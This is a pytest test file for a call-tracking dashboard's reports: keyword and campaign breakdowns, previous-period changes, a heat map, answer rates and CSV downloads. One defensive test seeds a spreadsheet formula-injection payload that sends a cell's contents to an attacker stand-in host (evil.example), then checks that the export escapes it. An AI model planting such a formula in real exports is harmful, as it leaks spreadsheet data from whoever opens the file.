"""Reports past one dimension (issues #17 and #23): breakdowns with subtotals, the previous
period, the hour × weekday heat map, the answer rate per branch, quick ranges and one CSV
per table. Every expected cell is worked out by hand from the rows written here."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from attribution import report_dimensions, report_tables, reports
from attribution.csv_encoding import fits_sjis
from backend.dashboard import report_options
from backend.dashboard.filters import quick_range
from pool.store import Store
from tests.dashboard.conftest import login
from tests.dashboard.seed import PASSWORD, Seeded, add_call_a, add_session

TZ = "Asia/Tokyo"
DAY = date(2025, 6, 2)  # a Monday
KW = "インプラント"
KW_AREA = "インプラント 渋谷"
HOUR = 3600_000


def at(hour: int, minute: int = 0, day: date = DAY) -> int:
    """Epoch ms of a local time in Tokyo."""
    start, _ = reports.local_day_range(day, day, TZ)
    return start + hour * HOUR + minute * 60_000


def span(first: date = DAY, last: date = DAY) -> dict[str, int]:
    start, end = reports.local_day_range(first, last, TZ)
    return {"start_ms": start, "end_ms": end}


async def write_day(db: Store, s: Seeded) -> None:
    """Monday 2025-06-02 (Tokyo) on advertiser A's site, and one visit the Sunday before:

    | session | source | campaign / ad group | keyword | match | call (status)       |
    | s1 10:00 | google | implant / cost | インプラント | exact | 10:05 answered, qualified |
    | s2 11:00 | yahoo  | implant / cost | インプラント | phrase | 11:02 no-answer |
    | s3 12:00 | google | implant / area | インプラント 渋谷 | exact | — |
    | s4 13:00 | google | implant / cost | インプラント | exact | 13:30 busy |
    | —        |        |                |              |       | 14:10 failed, no session |
    | s5 Sun 09:00 | google | implant / cost | インプラント | exact | Sun 09:10 answered |
    """
    ad = {"channel": "paid_search", "medium": "cpc", "campaign": "implant"}
    visits = [  # (started, source, ad group, keyword, match type)
        (at(10), "google", "cost", KW, "exact"),
        (at(11), "yahoo", "cost", KW, "phrase"),
        (at(12), "google", "area", KW_AREA, "exact"),
        (at(13), "google", "cost", KW, "exact"),
        (at(9, day=date(2025, 6, 1)), "google", "cost", KW, "exact"),
    ]
    async with db.write() as conn:
        s1, s2, _s3, s4, s5 = [
            await add_session(
                conn,
                s.site_a,
                started,
                source=source,
                ad_group=group,
                keyword=keyword,
                match_type=match,
                **ad,
            )
            for started, source, group, keyword, match in visits
        ]
        answered = {"qualified": 1, "first_time": 1}
        missed = {"answered_ms": None, "talk_s": 0, "qualified": 0, "first_time": 1}
        calls = [  # (caller's last digits, started, session, how it ended)
            (101, at(10, 5), s1, answered),
            (102, at(11, 2), s2, {"status": "no-answer", **missed}),
            (104, at(13, 30), s4, {"status": "busy", **missed}),
            (105, at(14, 10), None, {"status": "failed", **missed}),
            (106, at(9, 10, day=date(2025, 6, 1)), s5, answered),
        ]
        for caller, started, session, ended in calls:
            await add_call_a(
                conn,
                s,
                caller=f"+819000000{caller}",
                started_ms=started,
                session_id=session,
                **ended,
            )


async def day_as(client: httpx.AsyncClient, db: Store, s: Seeded, email: str) -> None:
    """The day's rows written, and ``client`` signed in as ``email``."""
    await write_day(db, s)
    await login(client, email, PASSWORD)


def counts(row: dict[str, Any]) -> tuple[int, int, int, int, float]:
    return (
        row["sessions"],
        row["calls"],
        row["qualified_calls"],
        row["first_time_callers"],
        row["conversion_rate"],
    )


def tree(rows: list[dict[str, Any]]) -> dict[tuple[str, ...], tuple[int, int, int, int, float]]:
    return {path: counts(r) for path, r in report_dimensions.walk(rows)}


async def test_keyword_by_source_and_match_type_keeps_google_and_yahoo_apart(
    db: Store, seeded: Seeded
) -> None:
    await write_day(db, seeded)
    rows = await report_dimensions.breakdown(
        db,
        advertiser_id=seeded.adv_a,
        site_id=None,
        dimensions=("keyword", "source", "match_type"),
        **span(),
    )
    assert tree(rows) == {
        (KW,): (3, 3, 1, 3, 1.0),
        (KW, "google"): (2, 2, 1, 2, 1.0),
        (KW, "google", "exact"): (2, 2, 1, 2, 1.0),
        (KW, "yahoo"): (1, 1, 0, 1, 1.0),
        (KW, "yahoo", "phrase"): (1, 1, 0, 1, 1.0),
        ("",): (0, 1, 0, 1, 0.0),  # the call without a web session: its own row, last
        (KW_AREA,): (1, 0, 0, 0, 0.0),
        (KW_AREA, "google"): (1, 0, 0, 0, 0.0),
        (KW_AREA, "google", "exact"): (1, 0, 0, 0, 0.0),
    }
    assert [r["key"] for r in rows] == [KW, KW_AREA, ""]  # most calls first; no session last
    assert rows[-1]["no_session"] is True
    # The first level is the one-dimension report, row for row.
    flat = await reports.calls_report(
        db, advertiser_id=seeded.adv_a, site_id=None, dimension="keyword", **span()
    )
    assert [(r["key"], *counts(r)) for r in flat] == [(r["key"], *counts(r)) for r in rows]
    other = await report_dimensions.breakdown(
        db, advertiser_id=seeded.adv_b, site_id=None, dimensions=("keyword", "source"), **span()
    )
    assert other == []


async def test_campaign_by_ad_group_and_keyword_with_filters(db: Store, seeded: Seeded) -> None:
    await write_day(db, seeded)
    args = {"advertiser_id": None, "site_id": None, **span()}
    rows = await report_dimensions.breakdown(
        db, dimensions=("campaign", "ad_group", "keyword"), **args
    )
    assert tree(rows) == {
        ("implant",): (4, 3, 1, 3, 0.75),
        ("implant", "cost"): (3, 3, 1, 3, 1.0),
        ("implant", "cost", KW): (3, 3, 1, 3, 1.0),
        ("implant", "area"): (1, 0, 0, 0, 0.0),
        ("implant", "area", KW_AREA): (1, 0, 0, 0, 0.0),
        ("",): (0, 1, 0, 1, 0.0),  # the call without a web session
    }
    yahoo = await report_dimensions.breakdown(
        db, dimensions=("keyword",), filters={"source": "yahoo"}, **args
    )
    assert tree(yahoo) == {(KW,): (1, 1, 0, 1, 1.0)}
    google_implant = await report_dimensions.breakdown(
        db,
        dimensions=("match_type",),
        filters={"source": "google", "campaign": "implant"},
        **args,
    )
    assert tree(google_implant) == {("exact",): (3, 2, 1, 2, 0.6667)}
    for bad in (("keyword", "keyword"), ("keyword", "a", "b", "c"), ("weather",), ()):
        with pytest.raises(ValueError):
            await report_dimensions.breakdown(db, dimensions=bad, **args)
    with pytest.raises(ValueError):
        await report_dimensions.breakdown(
            db, dimensions=("keyword",), filters={"keyword": "x"}, **args
        )


async def test_previous_period_rows_and_changes(db: Store, seeded: Seeded) -> None:
    await write_day(db, seeded)
    assert report_dimensions.previous_days(DAY, DAY) == (date(2025, 6, 1), date(2025, 6, 1))
    assert report_dimensions.previous_days(date(2025, 6, 1), date(2025, 6, 30)) == (
        date(2025, 5, 2),
        date(2025, 5, 31),
    )
    args = {"advertiser_id": seeded.adv_a, "site_id": None, "dimensions": ("keyword", "source")}
    now = await report_dimensions.breakdown(db, **args, **span())
    before = await report_dimensions.breakdown(
        db, **args, **span(date(2025, 6, 1), date(2025, 6, 1))
    )
    merged = {
        p: r["previous"]["calls"]
        for p, r in report_dimensions.walk(report_dimensions.with_previous(now, before))
    }
    assert merged == {
        (KW,): 1,
        (KW, "google"): 1,
        (KW, "yahoo"): 0,
        ("",): 0,  # the calls without a web session: one row, no breakdown
        (KW_AREA,): 0,
        (KW_AREA, "google"): 0,
    }
    assert report_dimensions.change(3, 1) == (2, 2.0)
    assert report_dimensions.change(1, 0) == (1, None)
    # A row only in the previous period is still listed (zero now), so the previous
    # column adds up to the previous total.
    only_before = report_dimensions.with_previous(
        [],
        await report_dimensions.breakdown(db, **args, **span(date(2025, 6, 1), date(2025, 6, 1))),
    )
    assert [(r["key"], r["calls"], r["previous"]["calls"]) for r in only_before] == [(KW, 0, 1)]
    assert [(c["key"], c["previous"]["calls"]) for c in only_before[0]["children"]] == [
        ("google", 1)
    ]


async def test_heat_map_and_answer_rates(db: Store, seeded: Seeded) -> None:
    await write_day(db, seeded)
    args = {"advertiser_id": seeded.adv_a, "site_id": None, **span()}
    grid = await report_tables.calls_by_hour(db, timezone=TZ, **args)
    expected = [[0] * 24 for _ in range(7)]
    for hour in (10, 11, 13, 14):
        expected[0][hour] = 1  # Monday, Tokyo time
    assert grid == expected
    # The same calls in UTC: Monday 01:00, 02:00, 04:00 and 05:00.
    utc = await report_tables.calls_by_hour(db, timezone="UTC", **args)
    assert [h for h in range(24) if utc[0][h]] == [1, 2, 4, 5]
    target = await db.fetchval(
        "SELECT COALESCE(NULLIF(tg.label, ''), tg.number) FROM tracking_numbers tn"
        " JOIN pools p ON p.id = tn.pool_id JOIN targets tg ON tg.id = p.target_id"
        " WHERE tn.id = :n",
        {"n": seeded.number_a},
    )
    rates = await report_tables.answer_rates(db, **args)
    assert rates == [{"key": target, "calls": 4, "answered": 1, "missed": 3, "answer_rate": 0.25}]
    assert await report_tables.answer_rates(db, **{**args, "advertiser_id": seeded.adv_b}) == []
    # The sources chart's calls, without the sessions: the report's calls column.
    per_source = await report_tables.calls_per_key(db, dimension="source", **args)
    assert per_source == [("google", 2), ("", 1), ("yahoo", 1)]
    report = await reports.calls_report(db, dimension="source", **args)
    assert dict(per_source) == {r["key"]: r["calls"] for r in report if r["calls"]}
    with pytest.raises(ValueError):
        await report_tables.calls_per_key(db, dimension="landing_page", **args)


def test_quick_ranges() -> None:
    today = date(2025, 3, 31)
    assert quick_range("today", today) == (today, today)
    assert quick_range("yesterday", today) == (date(2025, 3, 30), date(2025, 3, 30))
    assert quick_range("last_7_days", today) == (date(2025, 3, 25), today)
    assert quick_range("last_30_days", today) == (date(2025, 3, 2), today)
    assert quick_range("this_month", today) == (date(2025, 3, 1), today)
    assert quick_range("last_month", today) == (date(2025, 2, 1), date(2025, 2, 28))
    assert quick_range("last_month", date(2025, 1, 5)) == (date(2024, 12, 1), date(2024, 12, 31))


class _Tables(HTMLParser):
    """The cell texts of every table on a page, by table id."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._table: list[list[str]] | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self._table = self.tables.setdefault(dict(attrs).get("id") or "", [])
        elif tag == "tr" and self._table is not None:
            self._table.append([])
        elif tag in ("td", "th") and self._table is not None:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._table is not None:
            text = " ".join("".join(self._cell).split()).removesuffix(" ▼").removesuffix(" ▲")
            self._table[-1].append(text)
            self._cell = None
        elif tag == "table":
            self._table = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def page_tables(html: str) -> dict[str, list[list[str]]]:
    parser = _Tables()
    parser.feed(html)
    return parser.tables


def unsigned(table: list[list[str]]) -> list[list[str]]:
    """A page's table as its CSV writes it: changes as plain numbers (+2 → 2, +200.0% →
    200.0, "—" as is)."""
    changes = [i for i, h in enumerate(table[0]) if h.endswith(("change", "change %"))]
    return [
        [
            c.removeprefix("+").removesuffix("%") if i in changes and n else c
            for i, c in enumerate(row)
        ]
        for n, row in enumerate(table)
    ]


def csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


async def test_page_tables_and_their_downloads(
    client: httpx.AsyncClient, db: Store, seeded: Seeded
) -> None:
    await day_as(client, db, seeded, seeded.member_a)
    query = f"from={DAY}&to={DAY}&by=campaign&by2=ad_group&by3=keyword&compare=1"
    page = await client.get(f"/dashboard?{query}")
    assert page.status_code == 200, page.text
    tables = page_tables(page.text)
    head = [
        "Campaign",
        "Ad group",
        "Keyword",
        "Sessions",
        "Calls",
        "Qualified calls",
        "First-time callers",
        "Call conversion",
        "Calls: previous period",
        "Calls: change",
        "Calls: change %",
        "Qualified calls: previous period",
        "Qualified calls: change",
        "Qualified calls: change %",
    ]
    assert tables["report"][0] == head
    # Previous day (Sunday): implant / cost / インプラント had 1 call, qualified.
    assert tables["report"][1:] == [
        ["implant", "Subtotal", "", *"4 3 1 3 75.0% 1 +2 +200.0% 1 0 0.0%".split()],
        ["implant", "cost", "Subtotal", *"3 3 1 3 100.0% 1 +2 +200.0% 1 0 0.0%".split()],
        ["implant", "cost", KW, *"3 3 1 3 100.0% 1 +2 +200.0% 1 0 0.0%".split()],
        ["implant", "area", "Subtotal", *"1 0 0 0 0.0% 0 0 — 0 0 —".split()],
        ["implant", "area", KW_AREA, *"1 0 0 0 0.0% 0 0 — 0 0 —".split()],
        # The call without a web session: one row of its own, last, whatever the dimensions.
        ["No web session", "", "", *"0 1 0 1 0.0% 0 +1 — 0 0 —".split()],
        ["Total", "", "", *"4 4 1 4 75.0% 1 +3 +300.0% 1 0 0.0%".split()],
    ]
    heat = tables["heatmap"]
    assert heat[0] == ["Weekday", *(f"{h}:00" for h in range(24)), "Total"]
    monday = ["0"] * 24
    for hour in (10, 11, 13, 14):
        monday[hour] = "1"
    assert heat[1] == ["Monday", *monday, "4"]
    assert heat[2] == ["Tuesday", *["0"] * 24, "0"]
    assert heat[-1] == ["Total", *monday, "4"]
    assert tables["targets"][0] == ["Branch", "Calls", "Answered", "Missed", "Answer rate"]
    assert tables["targets"][1][1:] == ["4", "1", "3", "25.0%"]
    assert tables["targets"][-1] == ["Total", "4", "1", "3", "25.0%"]
    # Each table's download is that table: the same header, rows and total (counts as plain
    # integers), in UTF-8, or for Excel in Japanese: Shift_JIS when every character fits.
    for name in ("report", "heatmap", "targets"):
        plain = await client.get(f"/dashboard/reports/export?table={name}&{query}")
        assert plain.status_code == 200, plain.text
        assert plain.headers["content-type"].startswith("text/csv")
        assert f"callpath-{name}-{DAY}-{DAY}.csv" in plain.headers["content-disposition"]
        assert not plain.content.startswith(b"\xef\xbb\xbf")
        assert csv_cells(plain.content) == unsigned(tables[name]), name
        excel = await client.get(f"/dashboard/reports/export?table={name}&encoding=excel&{query}")
        text = plain.content.decode("utf-8")
        if fits_sjis(text):
            assert excel.headers["content-type"] == "text/csv; charset=shift_jis"
            assert excel.content.decode("cp932") == text
        else:  # a "—" (no change to compare) has no Shift_JIS code: UTF-8 with the BOM
            assert excel.content == b"\xef\xbb\xbf" + plain.content
    for bad in ("table=weather", "table=report&encoding=shift_jis", "by=report&by2=report"):
        refused = await client.get(f"/dashboard/reports/export?{bad}")
        assert refused.status_code == 400, bad
    # The first select changed to the second's dimension: kept once, not refused.
    again = await client.get(f"/dashboard?from={DAY}&to={DAY}&by=campaign&by2=campaign&by3=")
    assert page_tables(again.text)["report"][0][:2] == ["Campaign", "Sessions"]
    assert (await client.get(f"/dashboard?{query}&by2=weather")).status_code == 400
    # Japanese: the headers and words of the page, in the download too.
    client.headers["Accept-Language"] = "ja"
    ja = await client.get(f"/dashboard/reports/export?table=heatmap&{query}")
    assert csv_cells(ja.content)[1][0] == "月曜日"


async def test_keyword_report_splits_sources_by_default_and_drills_down(
    client: httpx.AsyncClient, db: Store, seeded: Seeded
) -> None:
    await day_as(client, db, seeded, seeded.member_a)
    page = await client.get(f"/dashboard?from={DAY}&to={DAY}")
    rows = page_tables(page.text)["report"]
    assert rows[0][:3] == ["Keyword", "Source", "Match type"]
    assert [r[:5] for r in rows[1:6]] == [
        [KW, "Subtotal", "", "3", "3"],
        [KW, "google", "Subtotal", "2", "2"],
        [KW, "google", "Exact match", "2", "2"],
        [KW, "yahoo", "Subtotal", "1", "1"],
        [KW, "yahoo", "Phrase match", "1", "1"],
    ]
    # One dimension when the viewer chooses none.
    single = page_tables((await client.get(f"/dashboard?from={DAY}&to={DAY}&by2=")).text)
    assert single["report"][1][:3] == [KW, "3", "3"]
    # The keyword's link opens the call log of those calls; its count is the report's.
    assert f"&amp;by=keyword&amp;value={quote(KW)}" in page.text
    export = await client.get(
        f"/dashboard/calls/export?from={DAY}&to={DAY}&by=keyword&value={quote(KW)}"
    )
    assert len(csv_cells(export.content)) - 1 == 3
    # A row of the breakdown links to the calls of its keyword, source and match type.
    leaf = f"by=keyword&value={quote(KW)}&by2=source&value2=yahoo&by3=match_type&value3=phrase"
    assert leaf.replace("&", "&amp;") in page.text
    google = f"by=keyword&value={quote(KW)}&by2=source&value2=google"
    assert google.replace("&", "&amp;") in page.text
    for drill, calls in ((leaf, 1), (google, 2)):
        found = await client.get(f"/dashboard/calls/export?from={DAY}&to={DAY}&{drill}")
        assert len(csv_cells(found.content)) - 1 == calls, drill
        log = await client.get(f"/dashboard/calls?from={DAY}&to={DAY}&{drill}")
        assert len(re.findall(r'href="/dashboard/calls/\d+"', log.text)) == calls, drill
    for bad in ("by2=weather&value2=1", "by2=source&value2=%00", "by2=source&value2=" + "x" * 501):
        refused = await client.get(f"/dashboard/calls?by=keyword&value=x&{bad}")
        assert refused.status_code == 400, bad
    phrase = await client.get(
        f"/dashboard/calls/export?from={DAY}&to={DAY}&by=match_type&value=phrase"
    )
    assert len(csv_cells(phrase.content)) - 1 == 1
    # Quick ranges keep the report (and a call log's drill-down) and mark the current one.
    assert 'aria-label="Quick ranges"' in page.text
    log = await client.get(f"/dashboard/calls?from={DAY}&to={DAY}&by=keyword&value={quote(KW)}")
    assert f"&amp;by=keyword&amp;value={quote(KW)}" in log.text.split('class="quick-ranges"')[1]


async def test_api_breakdown_and_filters(
    client: httpx.AsyncClient, db: Store, seeded: Seeded, demo: dict[str, Any]
) -> None:
    await write_day(db, seeded)
    auth = {"Authorization": f"Bearer {demo['api_token']}"}
    base = f"/api/reports/calls?start={DAY}&end={DAY}&dimension=keyword"
    r = await client.get(base + "&breakdown=source,match_type", headers=auth)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["breakdown"] == ["source", "match_type"]
    kw = next(row for row in body["data"] if row["key"] == KW)
    assert (kw["sessions"], kw["calls"]) == (3, 3)
    assert [
        (s["key"], s["calls"], [m["key"] for m in s["breakdown"]]) for s in kw["breakdown"]
    ] == [
        ("google", 2, ["exact"]),
        ("yahoo", 1, ["phrase"]),
    ]
    assert "breakdown" not in kw["breakdown"][0]["breakdown"][0]  # a leaf
    yahoo = await client.get(base + "&source=yahoo", headers=auth)
    assert [(row["key"], row["calls"]) for row in yahoo.json()["data"]] == [(KW, 1)]
    none = await client.get(base + "&campaign=brand&source=google", headers=auth)
    assert none.json()["data"] == []
    for bad in ("&breakdown=keyword", "&breakdown=a,b", "&breakdown=source,device,channel",
                "&source=" + "x" * 501, "&campaign=%00"):  # fmt: skip
        refused = await client.get(base + bad, headers=auth)
        assert refused.status_code == 422, bad


async def test_table_downloads_escape_formulas_and_keep_to_the_viewers_advertiser(
    client: httpx.AsyncClient, db: Store, seeded: Seeded
) -> None:
    await write_day(db, seeded)
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    async with db.write() as conn:
        await add_session(conn, seeded.site_a, at(15), source="google", keyword=formula)
    await login(client, seeded.member_a, PASSWORD)
    query = f"from={DAY}&to={DAY}&by=keyword&by2=source"
    got = csv_cells((await client.get(f"/dashboard/reports/export?table=report&{query}")).content)
    assert ["'" + formula, "Subtotal", "1", "0"] in [row[:4] for row in got]
    assert formula not in [row[0] for row in got]
    client.cookies.clear()
    await login(client, seeded.member_b, PASSWORD)
    for name in ("report", "heatmap", "targets"):
        other = await client.get(
            f"/dashboard/reports/export?table={name}&advertiser={seeded.adv_a}&{query}"
        )
        assert other.status_code == 404, name
        own = await client.get(f"/dashboard/reports/export?table={name}&{query}")
        assert own.status_code == 200 and KW not in own.text, name
    heat = csv_cells((await client.get(f"/dashboard/reports/export?table=heatmap&{query}")).content)
    assert heat[-1][-1] == "0"  # none of A's calls


async def test_the_billing_table_downloads_as_shown(
    client: httpx.AsyncClient, db: Store, seeded: Seeded
) -> None:
    await day_as(client, db, seeded, seeded.admin)
    query = f"from={DAY}&to={DAY}"
    page = page_tables((await client.get(f"/dashboard/advertisers?{query}")).text)
    shown = [row[:-1] for row in page["advertisers"]]  # without the link to the report
    assert shown[0] == [
        "Advertiser",
        "Calls",
        "Answered",
        "Qualified calls",
        "First-time callers",
        "Talk minutes",
    ]
    by_name = {row[0]: row[1:] for row in shown[1:]}
    # 4 calls on Monday: one answered (120 s talk, qualified), three missed (no talk).
    assert by_name["Demo Dental Clinic"] == ["4", "1", "1", "4", "2.0"]
    assert by_name["Rival Clinic"] == ["0", "0", "0", "0", "0.0"]
    got = await client.get(f"/dashboard/reports/export?table=advertisers&{query}")
    assert csv_cells(got.content) == shown


async def test_page_shows_the_first_rows_and_the_download_every_row(
    client: httpx.AsyncClient, db: Store, seeded: Seeded, monkeypatch: pytest.MonkeyPatch
) -> None:
    await day_as(client, db, seeded, seeded.member_a)
    query = f"from={DAY}&to={DAY}&by=campaign&by2=ad_group&by3=keyword"
    whole = page_tables((await client.get(f"/dashboard?{query}&by=ad_group&by2=")).text)
    every = whole["report"]
    assert len(every) >= 5  # header, two ad groups at least, no web session, total
    monkeypatch.setattr(report_options, "PAGE_ROWS", 1)
    page = await client.get(f"/dashboard?{query}&by=ad_group&by2=")
    assert page.status_code == 200, page.text
    shown = page_tables(page.text)["report"]
    # The first group, the row of the calls without a web session, and the total of all.
    assert shown == [every[0], every[1], *[r for r in every if r[0] == "No web session"], every[-1]]
    # Rows without the header and the total.
    assert f"Showing {len(shown) - 2} of {len(every) - 2} rows" in page.text
    assert "rows=all" in page.text
    # Every row when asked, and in the download whatever the page shows.
    asked = await client.get(f"/dashboard?{query}&by=ad_group&by2=&rows=all")
    assert page_tables(asked.text)["report"] == every
    assert 'id="report-more"' not in asked.text
    plain = await client.get(f"/dashboard/reports/export?table=report&{query}&by=ad_group&by2=")
    assert csv_cells(plain.content) == every
